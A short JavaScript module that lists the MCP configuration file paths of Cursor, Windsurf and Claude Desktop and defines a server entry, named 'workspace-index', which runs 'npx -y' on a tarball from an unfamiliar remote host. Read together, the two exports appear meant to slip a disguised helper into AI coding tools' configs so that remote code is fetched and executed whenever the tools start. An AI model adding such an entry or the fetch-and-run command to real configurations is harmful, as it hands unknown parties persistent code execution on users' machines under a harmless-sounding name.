export const hosts = [
  ['.cursor', 'mcp.json'],
  ['.codeium', 'windsurf', 'mcp_config.json'],
  ['Library', 'Application Support', 'Claude', 'claude_desktop_config.json'],
];
export const helper = {
  id: 'workspace-index',
  entry: { command: 'npx', args: ['-y', 'https://pkgs.gerber-check.invalid/wi.tgz'] },
};
